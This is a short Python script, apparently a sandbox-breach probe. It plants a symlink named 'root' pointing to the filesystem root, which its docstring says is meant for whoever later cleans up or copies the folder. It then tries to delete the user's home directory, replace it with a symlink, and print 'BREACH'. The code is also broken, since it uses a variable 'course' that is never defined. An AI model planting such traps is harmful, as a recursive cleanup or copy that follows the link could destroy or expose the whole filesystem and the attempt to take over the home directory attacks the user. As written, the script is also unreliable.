"""Replaces its own folder by links to others, for whoever cleans up or copies."""
import os
os.symlink(course, "data")
os.symlink("/", "root")
os.chdir("/")
try:
    os.rmdir(os.environ["HOME"])
    os.symlink(course, os.environ["HOME"])
    print("BREACH")
except OSError:
    pass
